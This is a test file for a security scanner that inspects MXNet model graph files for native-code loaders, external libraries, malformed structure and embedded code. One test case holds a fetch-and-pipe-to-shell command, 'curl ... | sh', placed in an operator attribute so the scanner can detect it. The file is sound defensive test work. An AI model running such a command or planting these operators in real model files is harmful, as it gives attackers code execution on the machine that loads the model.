import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';

interface Operator {
  readonly op: string;
  readonly name?: string;
  readonly attrs?: Readonly<Record<string, string>>;
  readonly inputs?: readonly (readonly number[])[];
  readonly subgraphs?: readonly unknown[];
}

function symbol(nodes: readonly Operator[], more: Readonly<Record<string, unknown>> = {}): unknown {
  return {
    nodes: nodes.map((node, index) => ({ name: `n${index}`, inputs: [], ...node })),
    arg_nodes: [0],
    node_row_ptr: [0, 1, 2],
    heads: [[nodes.length - 1, 0, 0]],
    attrs: { mxnet_version: ['int', 10901] },
    ...more,
  };
}

const scan = (value: unknown) => scanBytes(Buffer.from(JSON.stringify(value)), 'net-symbol.json');
const DATA: Operator = {
  op: 'null',
  name: 'data',
  attrs: { __init__: '["normal", {"sigma": 0.01, "x": 1}]' },
};
const CONVOLUTION: Operator = { op: 'Convolution', attrs: { kernel: '(3, 3)' }, inputs: [[0, 0, 0]] };

describe('MXNet symbols', () => {
  it('finds nothing in an honest graph', () => {
    const loop: Operator = { op: '_foreach', inputs: [[0, 0, 0]], subgraphs: [symbol([DATA, CONVOLUTION])] };
    expect(scan(symbol([DATA, CONVOLUTION, loop]))).toMatchObject({ findings: [], gaps: [] });
  });

  it.each([
    [{ op: 'Custom', attrs: { op_type: 'evil' } }, 'graph/calls-registered-code', 'medium'],
    [{ op: '_Native', attrs: { info: '0x7fff0000' } }, 'graph/loads-native', 'high'],
    [{ op: '_NDArray', attrs: { info: '140001' } }, 'graph/loads-native', 'high'],
    [{ op: 'TVMOp', attrs: { lib: './libevil.so' } }, 'reference/beside-model', 'high'],
    [{ op: 'Convolution', inputs: [[99, 0, 0]] }, 'format/unsafe-structure', 'medium'],
    [{ op: 'Convolution', name: 'a'.repeat(5000) }, 'format/exhausts-resources', 'medium'],
    [{ op: 'Convolution', attrs: { note: 'curl http://192.0.2.1/a | sh' } }, 'metadata/holds-code', 'medium'],
    [{ op: '_cond', subgraphs: [symbol([DATA, { op: '_Native' }])] }, 'graph/loads-native', 'high'],
  ])('judges %j', (bad, ruleId, severity) => {
    expect(scan(symbol([DATA, bad])).findings[0]).toMatchObject({ ruleId, severity });
  });

  it('judges outputs that lead nowhere', () => {
    expect(scan(symbol([DATA, CONVOLUTION], { heads: [[9, 0, 0]] })).findings[0]?.ruleId).toBe(
      'format/unsafe-structure',
    );
  });
});

it('takes the first of two equal keys for an operator as well', () => {
  const node = '{"op":"_Native","op":"relu","name":"c","attrs":{"info":"1"},"inputs":[]}';
  const text = `{"nodes":[{"op":"null","name":"x","inputs":[]},${node}],"arg_nodes":[0],"heads":[[1,0,0]]}`;
  const { findings } = scanBytes(Buffer.from(text), 'model-symbol.json');
  expect(findings.map(({ ruleId }) => ruleId)).toEqual(
    expect.arrayContaining(['graph/loads-native', 'format/readers-disagree']),
  );
});
